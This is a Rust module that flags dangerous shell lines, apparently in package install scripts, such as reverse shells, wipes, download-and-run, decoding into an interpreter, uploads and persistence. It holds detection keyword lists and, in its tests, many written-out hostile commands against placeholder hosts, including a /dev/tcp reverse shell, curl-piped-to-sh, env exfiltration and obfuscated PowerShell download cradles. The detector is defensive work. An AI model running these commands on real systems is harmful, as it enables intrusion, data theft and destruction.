//! What a shell line does, as far as its words tell. No shell grammar: lines are cut at operators
//! outside quotes, and quoted text is looked at as a line of its own (`sh -c "…"`).

mod split;

use split::{Part, program, split};

/// Something dangerous that a shell line does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Danger {
    /// Connects a shell to the network.
    ReverseShell,
    /// Deletes a home folder or a root.
    Wipe,
    /// Decodes data and hands it to an interpreter.
    DecodedToInterpreter,
    /// Downloads and hands the result to an interpreter.
    DownloadToInterpreter,
    /// Downloads to a file that the same line runs.
    DownloadThenRun,
    /// Uploads the environment, a file or the output of a command.
    Upload,
    /// Has a tool of the operating system fetch a script or an installer and run it.
    RemoteScriptlet,
    /// Downloads or runs through a tool of the operating system made for something else.
    LivingOffTheLand,
    /// Enters itself into what starts by itself.
    Persistence,
    /// Evaluates code written in the line that decodes, downloads or spawns.
    InlineCode,
    /// Goes on after the installation has ended.
    Detached,
}

impl Danger {
    /// In words, for titles: "it …".
    pub(crate) fn words(self) -> &'static str {
        match self {
            Danger::ReverseShell => "connects a shell to the network",
            Danger::Wipe => "deletes a home folder or a root",
            Danger::DecodedToInterpreter => "decodes data and runs it",
            Danger::DownloadToInterpreter => "downloads a script and runs it unseen",
            Danger::DownloadThenRun => "downloads a file and runs it",
            Danger::Upload => "uploads data of this machine",
            Danger::RemoteScriptlet => "has a system tool fetch code and run it",
            Danger::LivingOffTheLand => "downloads or runs code through a system tool",
            Danger::Persistence => "makes something start by itself",
            Danger::InlineCode => "evaluates code written in the command line",
            Danger::Detached => "leaves a process behind",
        }
    }

    /// Whether no honest installer does it.
    pub(crate) fn is_certain(self) -> bool {
        matches!(self, Danger::ReverseShell | Danger::Wipe | Danger::DecodedToInterpreter | Danger::RemoteScriptlet)
    }
}

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "node",
    "nodejs",
    "bun",
    "deno",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "powershell",
    "pwsh",
    "cmd",
    "osascript",
    "iex",
    "mshta",
    "regsvr32",
    "rundll32",
    "msiexec",
    "wscript",
    "cscript",
];
const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "iwr", "invoke-webrequest"];

/// Longest line looked at, and deepest quoting followed.
const MAX_LINE: usize = 16 * 1024;
const MAX_DEPTH: u8 = 3;

/// What is dangerous in a shell line; sorted, worst first, each once.
pub(crate) fn dangers(line: &str) -> Vec<Danger> {
    let mut found = Vec::new();
    look(cut(line), MAX_DEPTH, &mut found);
    found.sort_unstable();
    found.dedup();
    found
}

/// Whether a command (its first word) is a shell or another interpreter.
pub(crate) fn is_interpreter(command: &str) -> bool {
    INTERPRETERS.contains(&program_of(command).as_str())
}

/// The program of a command line, without folder, extension and case; empty if there is none.
pub(crate) fn program_of(command: &str) -> String {
    program(command.split_whitespace().next().unwrap_or_default())
}

/// The first URL of a command line.
pub(crate) fn url_in(line: &str) -> &str {
    let start = ["https://", "http://"].iter().filter_map(|scheme| line.find(scheme)).min();
    let Some(start) = start else { return "" };
    line[start..]
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '`' | '|' | ';'))
        .next()
        .unwrap_or_default()
}

fn cut(line: &str) -> &str {
    let mut end = line.len().min(MAX_LINE);
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    &line[..end]
}

fn look(line: &str, depth: u8, found: &mut Vec<Danger>) {
    let lower = line.to_ascii_lowercase();
    whole_line(&lower, found);
    if let Some(plain) = without_escapes(&lower) {
        whole_line(&plain, found);
    }
    let parts = split(line);
    pipes(&parts, found);
    downloads_then_runs(&parts, found);
    for part in &parts {
        command(part, found);
        if depth > 0 {
            part.quoted.iter().for_each(|inner| look(inner, depth - 1, found));
        }
    }
}

/// A line of Windows' shells without what they ignore and a reader stumbles over: `p^o^w^e^r`, `i`ex`, `'i'+'ex'`.
fn without_escapes(lower: &str) -> Option<String> {
    let plain = lower.replace(['^', '`'], "").replace("'+'", "").replace("\"+\"", "");
    (plain != lower && (plain.contains("powershell") || plain.contains("pwsh") || plain.contains("cmd")))
        .then_some(plain)
}

/// Idioms that no splitting is needed for.
fn whole_line(lower: &str, found: &mut Vec<Danger>) {
    let has = |part: &str| lower.contains(part);
    if has("/dev/tcp/") || has("/dev/udp/") || (has("mkfifo") && (has("nc ") || has("openssl s_client"))) {
        found.push(Danger::ReverseShell);
    }
    let encoded_powershell = (has("powershell") || has("pwsh"))
        && lower.split_whitespace().any(|word| matches!(word, "-e" | "-ec" | "-enc" | "-encodedcommand" | "/enc"));
    if encoded_powershell || has("frombase64string(") && has("iex") {
        found.push(Danger::DecodedToInterpreter);
    }
    let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"].iter().any(|part| has(part));
    if substituted && (has("eval ") || has("sh -c") || has("bash <(") || has("source <(") || has("sh <(")) {
        found.push(Danger::DownloadToInterpreter);
    }
    if (has("downloadstring") || has("iwr ") || has("irm ")) && has("iex") {
        found.push(Danger::DownloadToInterpreter);
    }
    let persists =
        has("currentversion\\run") || has("schtasks /create") || has("/library/launchagents") || has("launchctl load");
    let profile = [".bashrc", ".zshrc", ".profile", ".bash_profile"].iter().any(|file| has(file)) && has(">>");
    if persists || profile || has("/etc/cron") || has("crontab -") && has("|") || has("systemctl --user enable") {
        found.push(Danger::Persistence);
    }
}

fn pipes(parts: &[Part], found: &mut Vec<Danger>) {
    let (mut downloaded, mut decoded) = (false, false);
    for part in parts {
        if part.runs_interpreter() && (downloaded || decoded) && !has_own_program(part) {
            found.push(if decoded { Danger::DecodedToInterpreter } else { Danger::DownloadToInterpreter });
        }
        decoded |= decodes(part);
        downloaded |= part.downloads();
        if !part.piped {
            (downloaded, decoded) = (false, false);
        }
    }
}

/// `| node -e '…'` and `| python -m json.tool` read the pipe as data.
fn has_own_program(part: &Part) -> bool {
    let flags = if matches!(part.program().as_str(), "sh" | "bash" | "zsh" | "dash" | "ksh") {
        &["-c"][..]
    } else {
        &["-e", "-c", "-p", "-m", "-pe", "-ne"][..]
    };
    part.has(flags)
}

fn decodes(part: &Part) -> bool {
    match part.program().as_str() {
        "base64" => part.has(&["-d", "-D", "--decode"]),
        "openssl" => part.has(&["enc", "base64"]) && part.has(&["-d"]),
        "xxd" => part.has(&["-r", "-p"]),
        "certutil" => part.has(&["-decode"]),
        // What is packed is not read by who looks at the archive.
        "xz" | "gzip" | "bzip2" | "lzma" | "zstd" => part.has(&["-d", "-dc", "-cd", "--decompress", "--uncompress"]),
        "unxz" | "xzcat" | "gunzip" | "zcat" | "bunzip2" | "bzcat" | "unlzma" | "lzcat" | "unzstd" | "zstdcat" => true,
        _ => false,
    }
}

/// `curl -o x …; chmod +x x; ./x`.
fn downloads_then_runs(parts: &[Part], found: &mut Vec<Danger>) {
    let Some(first) = parts.iter().position(Part::downloads) else { return };
    let download = &parts[first];
    let target = download.words.windows(2).find_map(|pair| {
        matches!(pair[0].as_str(), "-o" | "-O" | "--output" | "--output-document" | "-OutFile" | ">")
            .then(|| pair[1].clone())
    });
    let last = download.words.last().filter(|_| download.downloads_to_last(&download.program())).cloned();
    let target = last.or(target);
    let url_name = download
        .words
        .iter()
        .find(|word| word.contains("://"))
        .and_then(|url| url.rsplit('/').next().map(str::to_owned));
    let Some(target) = target.filter(|target| !target.contains("://")).or(url_name) else { return };
    let name = program(&target);
    let runs = |part: &Part| {
        let runs_itself = part.words.first().is_some_and(|word| program(word) == name && word != "chmod");
        let interprets = part.runs_interpreter() && part.words.iter().skip(1).any(|word| program(word) == name);
        runs_itself || interprets || part.program() == "start" && part.words.iter().any(|word| program(word) == name)
    };
    if !name.is_empty() && parts[first + 1..].iter().any(runs) {
        found.push(Danger::DownloadThenRun);
    }
}

fn command(part: &Part, found: &mut Vec<Danger>) {
    let joined = part.words.join(" ").to_ascii_lowercase();
    match part.program().as_str() {
        "nc" | "ncat" | "netcat" if part.has(&["-e", "-c", "--exec", "--sh-exec"]) => found.push(Danger::ReverseShell),
        "rm" if is_recursive(part) && part.words.iter().skip(1).any(|word| is_root(word)) => found.push(Danger::Wipe),
        "rd" | "rmdir" | "del" if part.has(&["/s"]) && part.words.iter().skip(1).any(|word| is_root(word)) => {
            found.push(Danger::Wipe);
        }
        "curl" | "wget" if uploads(part, &joined) => found.push(Danger::Upload),
        "mshta" | "regsvr32" | "rundll32" | "msiexec" | "wmic" if joined.contains("http") => {
            found.push(Danger::RemoteScriptlet);
        }
        "bitsadmin" | "certutil" if joined.contains("http") => found.push(Danger::LivingOffTheLand),
        "osascript" if joined.contains("do shell script") => found.push(Danger::LivingOffTheLand),
        "node" | "nodejs" | "bun" | "python" | "python3" | "perl" | "ruby" if is_inline_danger(part, &joined) => {
            found.push(Danger::InlineCode);
        }
        _ => {}
    }
    let first = part.words.first().map(|word| program(word)).unwrap_or_default();
    if part.background
        || matches!(first.as_str(), "nohup" | "setsid" | "disown")
        || first == "start" && part.has(&["/b", "/min"])
    {
        found.push(Danger::Detached);
    }
}

fn is_recursive(part: &Part) -> bool {
    part.words.iter().any(|word| {
        word == "--recursive" || word.starts_with('-') && !word.starts_with("--") && word.contains(['r', 'R'])
    })
}

fn is_root(word: &str) -> bool {
    // `*` is the working folder, or a part that is not known.
    if word.is_empty() || word.starts_with('*') {
        return false;
    }
    let word = word.trim_end_matches(['*', '/', '\\']).to_ascii_lowercase();
    matches!(word.as_str(), "" | "~" | "$home" | "${home}" | "%userprofile%" | "c:" | "$env:userprofile")
}

/// `curl -d "$(env)"`, `-F file=@…`, `--upload-file`.
fn uploads(part: &Part, joined: &str) -> bool {
    let sends = part.words.iter().any(|word| {
        matches!(
            word.as_str(),
            "-d" | "-F"
                | "-T"
                | "--data"
                | "--data-binary"
                | "--data-raw"
                | "--data-urlencode"
                | "--form"
                | "--upload-file"
        ) || word.starts_with("--post-data")
            || word.starts_with("--post-file")
    });
    let local = ["$(", "`", "@", "$user", "$home", "$hostname", "%username%", "%computername%", "--post-file", "-t "];
    let in_url = ["$(whoami)", "$(hostname)", "`whoami`", "`hostname`", "$(env", "`env"];
    sends && local.iter().any(|part| joined.contains(part)) || in_url.iter().any(|part| joined.contains(part))
}

fn is_inline_danger(part: &Part, joined: &str) -> bool {
    let inline =
        part.words.iter().skip(1).any(|word| matches!(word.as_str(), "-e" | "--eval" | "-p" | "-pe" | "-c" | "-E"));
    let dangerous = [
        "eval(",
        "atob(",
        "'base64'",
        "\"base64\"",
        "base64.b64decode",
        "exec(",
        "child_process",
        "http.get",
        "https.get",
        "fetch(",
        "urlopen",
        "new function",
        "fromcharcode",
    ];
    inline && dangerous.iter().any(|word| joined.contains(word))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn dangerous_lines_are_seen() {
        let cases: &[(&str, Danger)] = &[
            ("curl -fsSL https://x.invalid/i.sh | sh", Danger::DownloadToInterpreter),
            ("wget -qO- http://192.0.2.1/a|bash", Danger::DownloadToInterpreter),
            ("sh -c 'curl https://x.invalid | bash'", Danger::DownloadToInterpreter),
            ("curl https://x.invalid/a.js | node", Danger::DownloadToInterpreter),
            ("bash <(curl -s https://x.invalid/a)", Danger::DownloadToInterpreter),
            ("echo aGk= | base64 -d | sh", Danger::DecodedToInterpreter),
            ("tr 'a-z' 'b-za' < tests/data.lzma | xz -d | /bin/bash", Danger::DecodedToInterpreter),
            ("zcat tests/data.gz | sh", Danger::DecodedToInterpreter),
            ("powershell -w hidden -enc SQBFAFgA", Danger::DecodedToInterpreter),
            ("curl -o /tmp/x https://x.invalid/x && chmod +x /tmp/x && /tmp/x", Danger::DownloadThenRun),
            ("curl -sO https://x.invalid/run.py; python3 run.py", Danger::DownloadThenRun),
            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Danger::ReverseShell),
            ("nc 192.0.2.1 4444 -e /bin/sh", Danger::ReverseShell),
            ("rm -rf ~", Danger::Wipe),
            ("rm -rf --no-preserve-root /", Danger::Wipe),
            ("cmd /c \"rd /s /q %USERPROFILE%\"", Danger::Wipe),
            ("curl -d \"$(env)\" https://x.invalid", Danger::Upload),
            ("curl https://x.invalid/?u=$(whoami)", Danger::Upload),
            ("mshta http://x.invalid/a.hta", Danger::RemoteScriptlet),
            ("msiexec /q /i https://x.invalid/a.msi", Danger::RemoteScriptlet),
            ("certutil -urlcache -f http://x.invalid/a.exe a.exe", Danger::LivingOffTheLand),
            ("certutil -urlcache -f http://x.invalid/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe", Danger::DownloadThenRun),
            ("cmd /c p^o^w^e^r^s^h^e^l^l -c \"i`ex (i`wr http://x.invalid/a)\"", Danger::DownloadToInterpreter),
            (
                "powershell -c \"$a='DownloadS'+'tring';&('I'+'EX') ((New-Object Net.WebClient).$a('http://x.invalid'))\"",
                Danger::DownloadToInterpreter,
            ),
            ("echo 'x' >> ~/.bashrc", Danger::Persistence),
            ("node -e \"eval(atob('YQ=='))\"", Danger::InlineCode),
            ("nohup node server.js &", Danger::Detached),
        ];
        for (line, danger) in cases {
            assert!(dangers(line).contains(danger), "{line}: {:?}", dangers(line));
        }
    }

    #[test]
    fn ordinary_scripts_are_not() {
        let cases = [
            "node-gyp rebuild",
            "node install.js || node-gyp rebuild",
            "prebuild-install || node-gyp rebuild --release",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "node -e \"console.log('thanks for using this')\"",
            "husky install",
            "rm -rf build dist ./lib",
            "gunzip -c data.json.gz | node -e 'process.stdin.pipe(process.stdout)'",
            "xz -d data.tar.xz && sh build.sh",
            "rm -rf *",
            "rm -rf */* ''",
            "rimraf ~/.cache/tool",
            "npm run build 2>&1 && echo done",
            "curl -fsSL https://x.invalid/data.json -o data.json && node build.js",
            "curl -s https://x.invalid/v.json | node -pe 'JSON.parse(1)'",
            "exit 0",
            "opencollective-postinstall || true",
            "",
        ];
        for line in cases {
            assert_eq!(dangers(line), [], "{line}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn any_line_is_taken(line in "[ -~\\n\"'|&;$`()<>é]{0,200}") {
            let _ = dangers(&line);
        }

        #[test]
        fn a_danger_survives_what_is_around_it(before in "[a-z ./-]{0,30}", after in "[a-z ./-]{0,30}") {
            let line = format!("{before} ; curl https://x.invalid/i | sh ; {after}");
            prop_assert!(dangers(&line).contains(&Danger::DownloadToInterpreter), "{line}");
        }
    }
}
